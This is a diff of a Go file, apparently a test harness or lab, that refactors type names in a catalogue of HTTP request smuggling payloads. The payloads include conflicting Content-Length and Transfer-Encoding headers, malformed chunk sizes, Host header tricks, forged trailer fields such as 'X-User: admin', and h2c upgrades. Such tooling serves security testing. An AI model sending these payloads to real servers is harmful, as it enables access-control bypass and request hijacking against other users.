@@ -61,9 +61,9 @@ func permitted(r request, token string) bool {
 	return r.target == targets()[2].path
 }
 
-// Attack is one way to have two servers read different requests.
-type Attack struct {
-	Name string
+// attack is one way to have two servers read different requests.
+type attack struct {
+	name string
 	// bytes are what the attacker sends over HTTP/1.1.
 	bytes func(t *target, token string) string
 	// fields are what he sends over HTTP/2, with a body; nil for HTTP/1.1.
@@ -84,9 +84,9 @@ func head(t *target, token, method, fields string) string {
 
 func chunk(data string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(data), data) }
 
-// Attacks are all of them, by group.
-func Attacks() []Group {
-	return []Group{
+// attackGroups are all of them, by group.
+func attackGroups() []attackGroup {
+	return []attackGroup{
 		{"chunks and a length", chunksAndLength()},
 		{"lengths", lengths()},
 		{"chunks", chunks()},
@@ -97,15 +97,15 @@ func Attacks() []Group {
 	}
 }
 
-// Group is attacks of one kind.
-type Group struct {
-	Title   string
-	Attacks []Attack
+// attackGroup is attacks of one kind.
+type attackGroup struct {
+	title   string
+	attacks []attack
 }
 
 // chunksAndLength are requests with both: a server that goes by the length sees one
 // request, one that goes by the chunks sees a second one in its body.
-func chunksAndLength() []Attack {
+func chunksAndLength() []attack {
 	encodings := []struct{ name, field string }{
 		{"both", "Transfer-Encoding: chunked\r\n"},
 		{"a space before the colon", "Transfer-Encoding : chunked\r\n"},
@@ -130,21 +130,21 @@ func chunksAndLength() []Attack {
 		{"a NUL in the name", "Transfer-Encoding\x00: chunked\r\n"},
 		{"a NUL in the value", "Transfer-Encoding: chunked\x00\r\n"},
 	}
-	var attacks []Attack
+	var attacks []attack
 	for _, e := range encodings {
-		attacks = append(attacks, Attack{Name: e.name, bytes: func(t *target, token string) string {
+		attacks = append(attacks, attack{name: e.name, bytes: func(t *target, token string) string {
 			body := chunk(t.body) + "0\r\n\r\n" + smuggled
 			return head(t, token, "POST", fmt.Sprintf("Content-Length: %d\r\n%s", len(body), e.field)) + "\r\n" + body
 		}})
 	}
 	return append(attacks,
-		Attack{Name: "both, the chunk holds the second request", bytes: func(t *target, token string) string {
+		attack{name: "both, the chunk holds the second request", bytes: func(t *target, token string) string {
 			data := t.body + smuggled
 			size := fmt.Sprintf("%x\r\n", len(data))
 			// Who goes by the length ends the body in the middle of the chunk.
 			return head(t, token, "POST", fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(size)+len(t.body))) + "\r\n" + size + data + "\r\n0\r\n\r\n"
 		}},
-		Attack{Name: "both, in HTTP/1.0", bytes: func(t *target, token string) string {
+		attack{name: "both, in HTTP/1.0", bytes: func(t *target, token string) string {
 			body := chunk(t.body) + "0\r\n\r\n" + smuggled
 			return strings.Replace(head(t, token, "POST", fmt.Sprintf("Connection: keep-alive\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(body))), "HTTP/1.1", "HTTP/1.0", 1) + "\r\n" + body
 		}},
@@ -153,7 +153,7 @@ func chunksAndLength() []Attack {
 
 // lengths are requests whose length two servers read differently: for one of them
 // the body is empty, and what it begins with is the next request.
-func lengths() []Attack {
+func lengths() []attack {
 	fields := []struct{ name, field string }{
 		{"two, the first is 0", "Content-Length: 0\r\nContent-Length: %d\r\n"},
 		{"two, the last is 0", "Content-Length: %d\r\nContent-Length: 0\r\n"},
@@ -171,14 +171,14 @@ func lengths() []Attack {
 		{"a field after a carriage return", "X-Lines: a\rContent-Length: %d\r\n"},
 		{"a NUL in the name", "Content-Length\x00: %d\r\n"},
 	}
-	var attacks []Attack
+	var attacks []attack
 	for _, f := range fields {
-		attacks = append(attacks, Attack{Name: f.name, bytes: func(t *target, token string) string {
+		attacks = append(attacks, attack{name: f.name, bytes: func(t *target, token string) string {
 			body := smuggled + t.body
 			return head(t, token, "POST", fmt.Sprintf(f.field, len(body))) + "\r\n" + body
 		}})
 	}
-	return append(attacks, Attack{Name: "more than 64 bits", bytes: func(t *target, token string) string {
+	return append(attacks, attack{name: "more than 64 bits", bytes: func(t *target, token string) string {
 		body := smuggled + t.body
 		// 2^64 and the length of the body: the first five digits are those of 2^64, the sum stays below 2^64 + 10^4.
 		return head(t, token, "POST", fmt.Sprintf("Content-Length: 1844674407370955%d\r\n", 1616+len(body))) + "\r\n" + body
@@ -186,11 +186,11 @@ func lengths() []Attack {
 }
 
 // chunks are bodies whose chunks two servers cut differently.
-func chunks() []Attack {
+func chunks() []attack {
 	chunked := func(t *target, token, body string) string {
 		return head(t, token, "POST", "Transfer-Encoding: chunked\r\n") + "\r\n" + body
 	}
-	var attacks []Attack
+	var attacks []attack
 	for _, size := range []struct{ name, format string }{
 		{"a size with 0x", "%#x"},
 		{"a size with a plus sign", "+%x"},
@@ -200,23 +200,23 @@ func chunks() []Attack {
 		{"a size with a tab and more after it", "%x\t5"},
 		{"a size with a letter after it", "%xg"},
 	} {
-		attacks = append(attacks, Attack{Name: size.name, bytes: func(t *target, token string) string {
+		attacks = append(attacks, attack{name: size.name, bytes: func(t *target, token string) string {
 			data := "\r\n" + smuggled + t.body
 			return chunked(t, token, fmt.Sprintf(size.format, len(data))+"\r\n"+data+"\r\n0\r\n\r\n")
 		}})
 	}
 	return append(attacks,
-		Attack{Name: "a size that ends with a line feed", bytes: func(t *target, token string) string {
+		attack{name: "a size that ends with a line feed", bytes: func(t *target, token string) string {
 			data := "\r\n\r\n" + smuggled + t.body
 			return chunked(t, token, fmt.Sprintf("%x\n", len(data))+data+"\r\n0\r\n\r\n")
 		}},
-		Attack{Name: "an extension that holds a line feed", bytes: func(t *target, token string) string {
+		attack{name: "an extension that holds a line feed", bytes: func(t *target, token string) string {
 			// Who ends the line there is four bytes behind, and takes the last of the
 			// first chunk for a size, and so the second one for chunks.
 			first, second := t.body+"\r\n02", "0\r\n\r\n"+smuggled
 			return chunked(t, token, fmt.Sprintf("%x;\nxx\r\n%s\r\n", len(first), first)+chunk(second)+"0\r\n\r\n")
 		}},
-		Attack{Name: "data that ends with a line feed", bytes: func(t *target, token string) string {
+		attack{name: "data that ends with a line feed", bytes: func(t *target, token string) string {
 			hidden := "\r\n" + smuggled
 			hidden += strings.Repeat("x", 0x50-len(hidden))
 			return chunked(t, token, fmt.Sprintf("%x\r\n%s\n50\r\n%s\r\n0\r\n\r\n", len(t.body), t.body, hidden))
@@ -225,7 +225,7 @@ func chunks() []Attack {
 }
 
 // lines are requests whose first lines two servers read differently.
-func lines() []Attack {
+func lines() []attack {
 	request := func(t *target, token, line, hosts string) string {
 		return fmt.Sprintf("%s\r\n%sContent-Type: %s\r\n%sX-Id: attack\r\nContent-Length: %d\r\n\r\n%s", line, hosts, t.contentType, t.authorization(token), len(t.body), t.body)
 	}
@@ -240,46 +240,46 @@ func lines() []Attack {
 			return request(t, token, "POST "+t.path+" HTTP/1.1", own) + second
 		}
 	}
-	return []Attack{
-		{Name: "an absolute target for another host", bytes: of("POST http://"+internal+"{path} HTTP/1.1", own)},
-		{Name: "two Host fields", bytes: of("POST {path} HTTP/1.1", own+other)},
-		{Name: "two Host fields, the other way round", bytes: of("POST {path} HTTP/1.1", other+own)},
-		{Name: "a Host with a space before the colon", bytes: of("POST {path} HTTP/1.1", "Host : "+internal+"\r\n"+own)},
-		{Name: "two targets", bytes: of("POST {path} /api/smuggled HTTP/1.1", own)},
-		{Name: "two targets, the other way round", bytes: of("POST /api/smuggled {path} HTTP/1.1", own)},
-		{Name: "no Host", malformed: true, bytes: of("POST {path} HTTP/1.1", "")},
-		{Name: "an empty Host", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host:\r\n")},
-		{Name: "a Host with a path", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+"/api/smuggled?\r\n")},
-		{Name: "a Host with user information", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+"@"+internal+"\r\n")},
-		{Name: "a Host with a space", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+" "+internal+"\r\n")},
-		{Name: "an authority for a target", malformed: true, bytes: of("POST "+internal+":80 HTTP/1.1", own)},
-		{Name: "CONNECT", malformed: true, bytes: of("CONNECT "+internal+":80 HTTP/1.1", own)},
-		{Name: "CONNECT with a path", malformed: true, bytes: of("CONNECT {path} HTTP/1.1", own)},
-		{Name: "an asterisk for a target", malformed: true, bytes: of("POST * HTTP/1.1", own)},
-		{Name: "a tab in the request line", malformed: true, bytes: of("POST\t{path} HTTP/1.1", own)},
-		{Name: "a space before the request line", malformed: true, bytes: of(" POST {path} HTTP/1.1", own)},
-		{Name: "a NUL in the target", malformed: true, bytes: of("POST {path}\x00 HTTP/1.1", own)},
-		{Name: "a line feed in the target", malformed: true, bytes: of("POST {path}\n/api/smuggled HTTP/1.1", own)},
-		{Name: "a fragment in the target", malformed: true, bytes: of("POST {path}#/../smuggled HTTP/1.1", own)},
-		{Name: "a version of its own", malformed: true, bytes: of("POST {path} HTTP/1.9", own)},
-		{Name: "a version in small letters", malformed: true, bytes: of("POST {path} http/1.1", own)},
-		{Name: "lines that end with LF", malformed: true, bytes: func(t *target, token string) string {
+	return []attack{
+		{name: "an absolute target for another host", bytes: of("POST http://"+internal+"{path} HTTP/1.1", own)},
+		{name: "two Host fields", bytes: of("POST {path} HTTP/1.1", own+other)},
+		{name: "two Host fields, the other way round", bytes: of("POST {path} HTTP/1.1", other+own)},
+		{name: "a Host with a space before the colon", bytes: of("POST {path} HTTP/1.1", "Host : "+internal+"\r\n"+own)},
+		{name: "two targets", bytes: of("POST {path} /api/smuggled HTTP/1.1", own)},
+		{name: "two targets, the other way round", bytes: of("POST /api/smuggled {path} HTTP/1.1", own)},
+		{name: "no Host", malformed: true, bytes: of("POST {path} HTTP/1.1", "")},
+		{name: "an empty Host", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host:\r\n")},
+		{name: "a Host with a path", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+"/api/smuggled?\r\n")},
+		{name: "a Host with user information", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+"@"+internal+"\r\n")},
+		{name: "a Host with a space", malformed: true, bytes: of("POST {path} HTTP/1.1", "Host: "+site+" "+internal+"\r\n")},
+		{name: "an authority for a target", malformed: true, bytes: of("POST "+internal+":80 HTTP/1.1", own)},
+		{name: "CONNECT", malformed: true, bytes: of("CONNECT "+internal+":80 HTTP/1.1", own)},
+		{name: "CONNECT with a path", malformed: true, bytes: of("CONNECT {path} HTTP/1.1", own)},
+		{name: "an asterisk for a target", malformed: true, bytes: of("POST * HTTP/1.1", own)},
+		{name: "a tab in the request line", malformed: true, bytes: of("POST\t{path} HTTP/1.1", own)},
+		{name: "a space before the request line", malformed: true, bytes: of(" POST {path} HTTP/1.1", own)},
+		{name: "a NUL in the target", malformed: true, bytes: of("POST {path}\x00 HTTP/1.1", own)},
+		{name: "a line feed in the target", malformed: true, bytes: of("POST {path}\n/api/smuggled HTTP/1.1", own)},
+		{name: "a fragment in the target", malformed: true, bytes: of("POST {path}#/../smuggled HTTP/1.1", own)},
+		{name: "a version of its own", malformed: true, bytes: of("POST {path} HTTP/1.9", own)},
+		{name: "a version in small letters", malformed: true, bytes: of("POST {path} http/1.1", own)},
+		{name: "lines that end with LF", malformed: true, bytes: func(t *target, token string) string {
 			return strings.ReplaceAll(request(t, token, "POST "+t.path+" HTTP/1.1", own), "\r\n", "\n")
 		}},
-		{Name: "lines that end with CR", malformed: true, bytes: func(t *target, token string) string {
+		{name: "lines that end with CR", malformed: true, bytes: func(t *target, token string) string {
 			return strings.ReplaceAll(request(t, token, "POST "+t.path+" HTTP/1.1", own), "\r\n", "\r")
 		}},
-		{Name: "a field without a colon", malformed: true, bytes: of("POST {path} HTTP/1.1", own+"Transfer-Encoding\r\n")},
-		{Name: "a field whose name has a space", malformed: true, bytes: of("POST {path} HTTP/1.1", own+"Transfer Encoding: chunked\r\n")},
-		{Name: "HTTP/0.9 on the same connection", malformed: true, bytes: after("GET /api/smuggled\r\n\r\n")},
-		{Name: "HTTP/1.0 on the same connection", malformed: true, bytes: after("GET /api/smuggled HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")},
-		{Name: "a second request without a token", malformed: true, bytes: after(smuggled)},
-		{Name: "the preface of HTTP/2", malformed: true, bytes: after("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
+		{name: "a field without a colon", malformed: true, bytes: of("POST {path} HTTP/1.1", own+"Transfer-Encoding\r\n")},
+		{name: "a field whose name has a space", malformed: true, bytes: of("POST {path} HTTP/1.1", own+"Transfer Encoding: chunked\r\n")},
+		{name: "HTTP/0.9 on the same connection", malformed: true, bytes: after("GET /api/smuggled\r\n\r\n")},
+		{name: "HTTP/1.0 on the same connection", malformed: true, bytes: after("GET /api/smuggled HTTP/1.0\r\nConnection: keep-alive\r\n\r\n")},
+		{name: "a second request without a token", malformed: true, bytes: after(smuggled)},
+		{name: "the preface of HTTP/2", malformed: true, bytes: after("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
 	}
 }
 
 // bodies are requests whose body, or what stands beside it, is not what it seems.
-func bodies() []Attack {
+func bodies() []attack {
 	withBody := func(method, fields string) func(*target, string) string {
 		return func(t *target, token string) string {
 			body := smuggled + t.body
@@ -299,24 +299,24 @@ func bodies() []Attack {
 		}
 	}
 	const settings = ", HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
-	return []Attack{
-		{Name: "a GET with a body", bytes: withBody("GET", "")},
-		{Name: "a body that waits for nobody (Expect)", bytes: withBody("POST", "Expect: 100-continue\r\n")},
-		{Name: "an Expect of its own", malformed: true, bytes: withBody("POST", "Expect: 200-maybe\r\n")},
-		{Name: "a HEAD with a body", malformed: true, bytes: withBody("HEAD", "")},
-		{Name: "a token in the trailer", onlyAPI: true, bytes: trailer("")},
-		{Name: "a token in the trailer, announced", onlyAPI: true, bytes: trailer("Trailer: Authorization\r\n")},
-		{Name: "another user in the trailer, announced", malformed: true, onlyAPI: true, bytes: func(t *target, token string) string {
+	return []attack{
+		{name: "a GET with a body", bytes: withBody("GET", "")},
+		{name: "a body that waits for nobody (Expect)", bytes: withBody("POST", "Expect: 100-continue\r\n")},
+		{name: "an Expect of its own", malformed: true, bytes: withBody("POST", "Expect: 200-maybe\r\n")},
+		{name: "a HEAD with a body", malformed: true, bytes: withBody("HEAD", "")},
+		{name: "a token in the trailer", onlyAPI: true, bytes: trailer("")},
+		{name: "a token in the trailer, announced", onlyAPI: true, bytes: trailer("Trailer: Authorization\r\n")},
+		{name: "another user in the trailer, announced", malformed: true, onlyAPI: true, bytes: func(t *target, token string) string {
 			return head(t, token, "POST", "Trailer: X-User\r\nTransfer-Encoding: chunked\r\n") + "\r\n" + chunk(t.body) + "0\r\nX-User: admin\r\n\r\n"
 		}},
-		{Name: "a Connection that names other fields", malformed: true, bytes: func(t *target, token string) string {
+		{name: "a Connection that names other fields", malformed: true, bytes: func(t *target, token string) string {
 			return head(t, token, "POST", fmt.Sprintf("Connection: Content-Length, Authorization, Host, X-User\r\nContent-Length: %d\r\n", len(t.body))) + "\r\n" + t.body
 		}},
-		{Name: "an upgrade to HTTP/2", onlyAPI: true, bytes: upgrade("h2c", settings)},
-		{Name: "an upgrade to HTTP/2, in capitals and second", onlyAPI: true, bytes: upgrade("foo, H2C", settings)},
-		{Name: "an upgrade to HTTP/2, in two fields", onlyAPI: true, bytes: upgrade("foo\r\nUpgrade: h2c", settings)},
-		{Name: "an upgrade to TLS (RFC 2817)", onlyAPI: true, bytes: upgrade("TLS/1.0", "")},
-		{Name: "an upgrade to HTTP/1.1", onlyAPI: true, bytes: upgrade("HTTP/1.1", "")},
+		{name: "an upgrade to HTTP/2", onlyAPI: true, bytes: upgrade("h2c", settings)},
+		{name: "an upgrade to HTTP/2, in capitals and second", onlyAPI: true, bytes: upgrade("foo, H2C", settings)},
+		{name: "an upgrade to HTTP/2, in two fields", onlyAPI: true, bytes: upgrade("foo\r\nUpgrade: h2c", settings)},
+		{name: "an upgrade to TLS (RFC 2817)", onlyAPI: true, bytes: upgrade("TLS/1.0", "")},
+		{name: "an upgrade to HTTP/1.1", onlyAPI: true, bytes: upgrade("HTTP/1.1", "")},
 	}
 }
 
